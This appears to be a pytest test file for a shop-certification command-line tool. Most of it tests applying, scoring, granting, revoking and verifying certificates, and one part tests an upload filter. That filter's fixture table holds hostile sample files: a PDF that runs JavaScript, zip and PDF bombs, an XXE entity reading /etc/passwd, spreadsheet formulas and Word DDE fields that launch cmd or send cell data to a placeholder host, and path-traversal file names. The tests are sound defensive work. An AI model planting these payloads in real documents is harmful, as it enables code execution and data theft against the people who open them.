"""`rasoat programme`, from the application to the certificate that anybody can check."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import struct
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from papers_made import SHOPS
from test_report_commands import rasoat

from checker.leads.outcome import VisitOutcome
from checker.leads.store import Store
from papers.handed_in import harmless
from papers.opened import Refused
from roof.documents import plain
from rules.load import load

NOW = datetime.now(UTC)
SHOP = SHOPS[0]


def visit(store: Store, name: str, at: datetime, failed: tuple[str, ...]) -> None:
    """A visit of the shop in which every rule of the programme passed but these."""
    rules = {rule for c in load().programmes["tick-xanh"].criteria for rule in c.rules}
    tallies = {(rule, "failed" if rule in failed else "passed"): 1 for rule in rules}
    store.put_storefronts([SHOP])
    made = VisitOutcome(
        visit=name, sweep="", storefront=SHOP.id, started=at, ended=at, state="complete", why="", as_of=at.date(),
        rulebook="r", manifest_digest="m" * 64, tallies=tallies,
    )  # fmt: skip
    store.record([made], at)


def case_of(folder: Path) -> str:
    done = rasoat("programme", "apply", SHOP.id, "--by", "an", cwd=folder)
    assert done.returncode == 0, done.stderr
    assert "VÍ DỤ" in done.stdout  # the criteria are an example, and every step says so
    return done.stdout.split()[2].rstrip(":")


def test_from_application_to_certificate_and_warning(tmp_path: Path) -> None:
    with Store(str(tmp_path / "rasoat.db")) as store:
        visit(store, "v1", NOW - timedelta(days=2), ())
    case = case_of(tmp_path)
    made = Document()
    made.add_paragraph("Giấy phép")
    made.save(str(tmp_path / "giay-phep.docx"))
    handed = rasoat("programme", "document", case, "giay-phep.docx", "--by", "an", cwd=tmp_path)
    assert handed.returncode == 0, handed.stderr
    [kept] = list((tmp_path / "cases" / case).iterdir())
    assert kept.stem == hashlib.sha256((tmp_path / "giay-phep.docx").read_bytes()).hexdigest()
    grant = ("programme", "decide", case, "grant", "--by", "an", "--reason", "đủ tiêu chí")
    early = rasoat(*grant, cwd=tmp_path)
    assert early.returncode == 2 and "score" in early.stderr
    assert rasoat("programme", "score", case, "--by", "an", cwd=tmp_path).returncode == 0
    assert rasoat(*grant, cwd=tmp_path).returncode == 0
    written = rasoat("programme", "certificate", case, "--out", "c", cwd=tmp_path)
    assert written.returncode == 0, written.stderr
    sha256 = hashlib.sha256((tmp_path / "c" / "certificate.json").read_bytes()).hexdigest()
    page = (tmp_path / "c" / "certificate.html").read_text("utf-8")
    assert sha256 in page and "VÍ DỤ" in page and "<script" not in page
    for form in ("json", "csv", "html"):
        listed = rasoat("programme", "list", "--public", "--format", form, "--out", f"l.{form}", cwd=tmp_path)
        assert listed.returncode == 0, listed.stderr
        assert sha256 in (tmp_path / f"l.{form}").read_text("utf-8")
    [row] = csv.DictReader(io.StringIO((tmp_path / "l.csv").read_text("utf-8-sig")))
    assert row["state"] == "holds"
    verify = ("programme", "verify", "c/certificate.json", "--list", "l.json")
    assert rasoat(*verify, cwd=tmp_path).returncode == 0
    text = (tmp_path / "c" / "certificate.json").read_text("utf-8")
    (tmp_path / "c" / "certificate.json").write_text(text.replace("2027", "2099"), "utf-8")
    assert rasoat(*verify, cwd=tmp_path).returncode == 1

    same = rasoat("programme", "recheck", cwd=tmp_path)
    assert same.returncode == 0 and "giữ nguyên" in same.stdout
    with Store(str(tmp_path / "rasoat.db")) as store:
        visit(store, "v2", NOW - timedelta(days=1), ("returns-policy-published",))
    for _ in range(2):  # twice: one warning a visit
        fell = rasoat("programme", "recheck", cwd=tmp_path)
        assert fell.returncode == 10 and "SA SÚT" in fell.stdout
    shown = rasoat("programme", "show", case, cwd=tmp_path).stdout
    assert shown.count("cảnh báo") == 2  # the state, and one row of the history
    again = rasoat("programme", "score", case, "--by", "an", cwd=tmp_path)
    assert again.returncode == 0
    refused = rasoat(*grant, cwd=tmp_path)
    assert refused.returncode == 1 and "chưa đạt" in refused.stderr
    revoked = rasoat("programme", "decide", case, "revoke", "--by", "an", "--reason", "sa sút", cwd=tmp_path)
    assert revoked.returncode == 0, revoked.stderr
    assert (
        json.loads(rasoat("programme", "list", "--public", "--format", "json", cwd=tmp_path).stdout)["rows"][
            0
        ]["state"]
        == "revoked"
    )


def granted(folder: Path) -> tuple[str, tuple[str, ...]]:
    """A case that holds, and the words that grant it."""
    with Store(str(folder / "rasoat.db")) as store:
        visit(store, "v1", NOW - timedelta(days=4), ())
    case = case_of(folder)
    grant = ("programme", "decide", case, "grant", "--by", "an", "--reason", "đủ tiêu chí")
    assert rasoat("programme", "score", case, "--by", "an", cwd=folder).returncode == 0
    assert rasoat(*grant, cwd=folder).returncode == 0
    return case, grant


def test_a_case_that_was_warned_is_not_granted_on_its_old_score_and_holds_again_once_mended(
    tmp_path: Path,
) -> None:
    case, grant = granted(tmp_path)
    with Store(str(tmp_path / "rasoat.db")) as store:
        visit(store, "v2", NOW - timedelta(days=3), ("returns-policy-published",))
    assert rasoat("programme", "recheck", cwd=tmp_path).returncode == 10
    again = rasoat(*grant, cwd=tmp_path)
    assert again.returncode == 1 and "chưa đạt" in again.stderr
    with Store(str(tmp_path / "rasoat.db")) as store:
        visit(store, "v3", NOW - timedelta(days=2), ())
    for _ in range(2):
        mended = rasoat("programme", "recheck", cwd=tmp_path)
        assert mended.returncode == 0, mended.stdout
    listed = rasoat("programme", "list", "--public", "--format", "json", cwd=tmp_path)
    assert json.loads(listed.stdout)["rows"][0]["state"] == "holds"
    shown = rasoat("programme", "show", case, cwd=tmp_path).stdout
    assert shown.count("đạt trở lại") == 1
    with Store(str(tmp_path / "rasoat.db")) as store:
        visit(store, "v4", NOW - timedelta(days=1), ("returns-policy-published",))
    assert rasoat("programme", "recheck", cwd=tmp_path).returncode == 10
    assert "còn hiệu lực, có cảnh báo" in rasoat("programme", "show", case, cwd=tmp_path).stdout


def test_a_certificate_whose_day_has_passed_since_the_list_was_made_does_not_hold(tmp_path: Path) -> None:
    case, _ = granted(tmp_path)
    assert rasoat("programme", "certificate", case, "--out", "c", cwd=tmp_path).returncode == 0
    listed = rasoat("programme", "list", "--public", "--format", "json", cwd=tmp_path)
    verify = ("programme", "verify", "c/certificate.json", "--list", "l.json")
    old = json.loads(listed.stdout)
    old["rows"][0]["until"] = (NOW - timedelta(days=2)).date().isoformat()
    (tmp_path / "l.json").write_text(json.dumps(old), "utf-8")
    passed = rasoat(*verify, cwd=tmp_path)
    assert passed.returncode == 1 and "hết hạn" in passed.stdout
    for broken in ("[]", '{"rows": [1]}', "{}", json.dumps({"rows": [{**old["rows"][0], "state": "fine"}]})):
        (tmp_path / "l.json").write_text(broken, "utf-8")
        said = rasoat(*verify, cwd=tmp_path)
        assert said.returncode == 2 and "l.json" in said.stderr and "Traceback" not in said.stderr, broken


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name.replace("__", "/"), body)
    return out.getvalue()


def sheet(cell: str, **more: bytes) -> bytes:
    body = f"<worksheet><sheetData><row><c>{cell}</c></row></sheetData></worksheet>".encode()
    return zipped(**{"xl__workbook.xml": b"<workbook/>", "xl__worksheets__sheet1.xml": body, **more})


def letter(field: str, **more: bytes) -> bytes:
    return zipped(**{"word__document.xml": f"<w:document>{field}</w:document>".encode(), **more})


def pdf(objects: bytes, head: bytes = b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(objects)
    return b"%PDF-1.7\n1 0 obj <</Type /ObjStm " + head + b">> stream\n" + packed + b"\nendstream endobj"


SCRIPT = b"<</S /JavaScript /JS (app.alert(1))>>"
HARMFUL = {
    "program": ("a.exe", b"MZ"),
    "no pdf": ("a.pdf", b"MZ"),
    "script": ("a.pdf", b"%PDF-1.7 /OpenAction " + SCRIPT),
    "script spelt out": ("a.pdf", b"%PDF-1.7 <</S /J#61vaScript>>"),
    "script packed away": ("a.pdf", pdf(SCRIPT)),
    "script behind a false stream": ("a.pdf", b"%PDF-1.7\n% stream\n" + pdf(SCRIPT)),
    "objects packed otherwise": ("a.pdf", pdf(b"<<>>", b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    "objects cut off": ("a.pdf", pdf(b"<<>>" * 9)[:-22] + b"\nendstream"),
    "pdf bomb": ("a.pdf", pdf(b" " * 41_000_000)),
    "encrypted": ("a.pdf", b"%PDF-1.7 trailer <</Encrypt 5 0 R>>"),
    "no png": ("a.png", b"%PDF-"),
    "picture bomb": ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 60_000, 60_000)),
    "no docx": ("a.docx", b"PK"),
    "zip bomb": ("a.xlsx", zipped(xl__workbook=b"", **{"xl__workbook.xml": b"<x>" + b" " * 60_000_000})),
    "xxe": ("a.xlsx", sheet("", **{"xl__s.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'})),
    "formula that calls a program": ("a.xlsx", sheet("<f>cmd|&apos;/C calc&apos;!A0</f>")),
    "formula that calls a server": ("a.xlsx", sheet('<f>_xlfn.WEBSERVICE("http://e/"&amp;A1)</f>')),
    "formula that leads away": ("a.xlsx", sheet('<x:f>HYPERLINK("http://e/?"&amp;A1,"Xem")</x:f>')),
    "formula as text": (
        "a.xlsx",
        sheet("", **{"xl__sharedStrings.xml": b"<si><t>=cmd|'/C calc'!A0</t></si>"}),
    ),
    "formula in utf-16": ("a.xlsx", sheet("", **{"xl__s.xml": "<f>cmd|'/C calc'!A0</f>".encode("utf-16")})),
    "asks another program": ("a.xlsx", sheet("", **{"xl__externalLinks__externalLink1.xml": b"<ddeLink/>"})),
    "old macros": ("a.xlsx", sheet("", **{"xl__macrosheets__sheet1.xml": b"<x/>"})),
    "field that runs": (
        "a.docx",
        letter("<w:instrText>DDEAU</w:instrText><w:instrText>TO c:\\\\cmd.exe</w:instrText>"),
    ),
    "field that fetches": ("a.docx", letter('<w:fldSimple w:instr="INCLUDETEXT &quot;http://e/x&quot;"/>')),
    "object in it": (
        "a.docx",
        letter("", word__embeddings__oleObject1_bin=b"", **{"word__activeX__a.xml": b""}),
    ),
    "too large": ("a.jpg", b"\xff\xd8\xff" + b"0" * 20_000_000),
    "no name": ("noname", b""),
}


@pytest.mark.parametrize("what", HARMFUL)
def test_a_harmful_paper_is_not_taken(what: str) -> None:
    name, data = HARMFUL[what]
    with pytest.raises(Refused) as refused:
        harmless(data, name)
    assert refused.value.vi.startswith(name) and refused.value.vi != refused.value.en


def test_a_plain_paper_is_taken() -> None:
    assert harmless(b"%PDF-1.7\n/Type /Page", "a.PDF") == ".pdf"
    assert harmless(pdf(b"<</Type /Page /Names [(JavaScript)]>>"), "a.pdf") == ".pdf"
    assert harmless(b"\xff\xd8\xff\xe0", "b.jpeg") == ".jpeg"
    assert harmless(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 4_960, 7_016), "c.png") == ".png"
    plain = sheet('<f>SUM(A1:A9)&amp;"a|b!"</f>', **{"xl__sharedStrings.xml": b"<si><t>- 0901 | A!</t></si>"})
    assert harmless(plain, "d.xlsx") == ".xlsx"
    assert harmless(letter('<w:fldSimple w:instr="PAGE"/><w:t>DDE</w:t>'), "e.docx") == ".docx"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.xlsx", sheet("", **{"xl__s.xml": b"<t " * 1_000_000})),
        ("a.xlsx", sheet("", **{"xl__s.xml": b"<si><t>=" + b"a|" * 1_000_000 + b"</t></si>"})),
        ("a.xlsx", sheet("<f>" + "a|" * 1_000_000 + "</f>")),
        ("a.docx", letter("<w:instrText " * 200_000)),
        ("a.docx", letter('<w:x instr="' + "INCLUDETEXT  " * 200_000 + '"/>')),
        ("a.pdf", b"%PDF-1.7 " + b"stream\n" * 2_000_000),
        ("a.pdf", b"%PDF-1.7 " + b"obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" * 200_000),
    ],
    ids=["tags", "text", "formula", "fields", "field", "streams", "packed"],
)
def test_a_paper_made_to_take_long_does_not(name: str, data: bytes) -> None:
    """Each of these would go on for hours where one pass over the paper is made for each of its signs."""
    if data.startswith(b"PK"):  # packed, it would be refused for what it unpacks to
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
            for part in old.namelist():
                new.writestr(part, old.read(part))
        data = out.getvalue()
    with contextlib.suppress(Refused):
        harmless(data, name)


@given(st.binary(max_size=300))
@settings(max_examples=150, deadline=None)
def test_bytes_are_refused_or_taken_and_nothing_else(data: bytes) -> None:
    for start, name in (
        (b"%PDF-1.7 /ObjStm stream\n", "a.pdf"),
        (b"\x89PNG\r\n\x1a\n", "a.png"),
        (b"PK", "a.xlsx"),
    ):
        with contextlib.suppress(Refused):
            harmless(start + data, name)


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("../../etc/giấy.pdf", "giấy.pdf"),
        ("C:\\x\\giấy.pdf", "giấy.pdf"),
        ("giấy\u202efdp.exe", "giấyfdp.exe"),
        ("a\0b\n.pdf", "ab.pdf"),
        ("x" * 900 + ".pdf", "x" * 200 + ".pdf"),
    ],
)
def test_a_name_is_kept_without_what_cannot_be_seen(typed: str, kept: str) -> None:
    assert plain(typed) == kept
